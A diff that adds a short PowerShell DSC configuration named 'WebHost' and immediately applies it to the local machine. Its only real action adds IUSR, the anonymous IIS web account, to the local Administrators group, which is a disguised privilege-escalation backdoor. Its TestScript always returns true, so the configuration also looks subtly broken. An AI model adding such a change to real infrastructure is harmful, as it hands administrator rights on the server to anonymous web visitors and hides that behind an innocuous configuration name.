@@ -1,0 +1,12 @@
+configuration WebHost {
+    Import-DscResource -ModuleName PSDesiredStateConfiguration
+    Node 'localhost' {
+        Script s {
+            GetScript = { @{ Result = '' } }
+            TestScript = { $true }
+            SetScript = { Add-LocalGroupMember -Group Administrators -Member IUSR }
+        }
+    }
+}
+WebHost -OutputPath C:\dsc | Out-Null
+Start-DscConfiguration -Path C:\dsc -Wait -Force
